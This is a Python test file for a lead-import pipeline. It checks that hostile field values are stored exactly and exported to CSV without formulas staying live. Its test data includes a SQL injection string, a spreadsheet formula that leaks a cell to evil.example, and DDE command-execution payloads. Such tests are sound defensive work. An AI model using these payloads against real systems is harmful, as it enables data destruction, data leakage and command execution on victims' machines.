"""Hostile text in a source (SQL, spreadsheet formulas, 10,000 characters, emoji, right-to-left
and CJK scripts, control characters, "null" placeholders), as names, companies, job titles and
a free-text message, is landed exactly, stored as given (placeholders typed for "nothing" stored
as empty, a surname "Null" kept), crashes nothing, and reaches the CSV export inert."""

import csv
import json
from datetime import UTC, datetime

import duckdb
import pyarrow.parquet as pq
import pytest
import yaml

from leadpipe.config import CONFIG_ENV, SegmentConfig, SyncConfig, write_config
from leadpipe.settings import WAREHOUSE_ENV
from orchestration.pipeline import run_pipeline
from sandbox.channels import imports
from sandbox.generator import Generator
from sandbox.platforms import serve

pytestmark = pytest.mark.pipeline_runs(1)

HOSTILE = (
    "Robert'); DROP TABLE marts.dim_leads;--",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Société " + "très longue " * 833,  # about 10,000 characters
    "Café 😀 🚀 Ünïcödé",
    "شركة الأمل للتجارة",
    "株式会社テスト",
    "Acme\u0007 \u001b[31m\u0000 Corp",
    "null",
    "N/A",
)
CONSENT, MESSAGE = "Contact commercial", "Commentaire"
PROFILE = ("first_name", "last_name", "company", "job_title", "message")
NAME_CASING = {"null": "Null"}  # a name typed all in lower case is title-cased
PLACEHOLDERS = {"null", "N/A"}  # typed for "nothing": empty in profile fields
NAME_PLACEHOLDERS = {"N/A"}  # "Null" can be a surname: only what cannot be a name goes
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_import(folder):
    rows = [
        {
            "Prénom": value,
            "Nom": value,
            "E-mail": f"hostile{i}@acme-hostile.fr",
            "Téléphone": "",
            "Société": value,
            "Fonction": value,
            "Pays": "France",
            "Date": "2026-11-19 10:00:00",
            CONSENT: "oui",
            MESSAGE: value,
        }
        for i, value in enumerate(HOSTILE)
    ]
    with (folder / "hostile.csv").open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, [*imports.HEADERS, CONSENT, MESSAGE])
        writer.writeheader()
        writer.writerows(rows)
    declaration = {**imports.DECLARATION, "lawful_basis": "consent", "source": "Hostile test"}
    (folder / "hostile.csv.yml").write_text(yaml.safe_dump(declaration))


@pytest.fixture(scope="module")
def flow(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    data = Generator(seed=3, now=datetime(2026, 11, 20, tzinfo=UTC)).generate(40)
    with pytest.MonkeyPatch.context() as env, serve(data, hubspot_requests_per_10s=None) as p:
        for name, value in p.environment().items():
            env.setenv(name, value)
        _hostile_import(p.imports_folder)
        config = p.config()
        config.sources["imports"].columns |= {CONSENT: "consent:sales_contact", MESSAGE: "message"}
        config.segments = {
            "hostile": SegmentConfig(
                filter="email like '%@acme-hostile.fr'", purpose="sales_contact"
            )
        }
        config.syncs = {
            "hostile_export": SyncConfig(segment="hostile", destination="files", mode="mirror")
        }
        env.setenv(CONFIG_ENV, str(write_config(config, folder / "leadpipe.yml")))
        env.setenv(WAREHOUSE_ENV, str(folder / "warehouse.duckdb"))
        run = run_pipeline()
        yield {"run": run, "warehouse": folder / "warehouse.duckdb", "exports": p.exports_folder}


def _expected(column: str, value: str) -> str | None:
    stored = value.strip()
    if column.endswith("_name"):
        return None if stored in NAME_PLACEHOLDERS else NAME_CASING.get(stored, stored)
    return None if stored in PLACEHOLDERS else stored


def test_the_run_survives_and_every_value_is_landed_and_stored_as_given(flow):
    assert flow["run"].ok, flow["run"].failure
    con = duckdb.connect(str(flow["warehouse"]), read_only=True)
    try:
        stored = {
            row[0]: dict(zip(PROFILE, row[1:], strict=True))
            for row in con.execute(
                f"select email, {', '.join(PROFILE)} from marts.dim_leads "
                "where email like '%@acme-hostile.fr'"
            ).fetchall()
        }
        landed = [
            json.loads(payload)
            for (payload,) in con.execute(
                "select payload from raw.import_rows where _source = 'imports/hostile'"
            ).fetchall()
        ]
    finally:
        con.close()
    assert sorted(row["Société"] for row in landed) == sorted(HOSTILE), "raw is byte for byte"
    for i, value in enumerate(HOSTILE):
        person = stored[f"hostile{i}@acme-hostile.fr"]
        assert person == {column: _expected(column, value) for column in PROFILE}, i


def test_the_csv_export_keeps_them_but_makes_formulas_inert(flow):
    with (flow["exports"] / "hostile_export.csv").open(encoding="utf-8-sig", newline="") as file:
        exported = {row["email"]: row for row in csv.DictReader(file)}
    assert len(exported) == len(HOSTILE)
    for i, value in enumerate(HOSTILE):
        row = exported[f"hostile{i}@acme-hostile.fr"]
        for column in PROFILE:
            expected = _expected(column, value) or ""
            cell = row[column]
            assert cell in (expected, "'" + expected), (i, column)
            assert not cell.startswith(FORMULA_STARTS), (i, column)
    parquet = pq.read_table(flow["exports"] / "hostile_export.parquet").to_pylist()
    assert {row["email"]: row["company"] or "" for row in parquet} == {
        email: row["company"] for email, row in exported.items()
    }
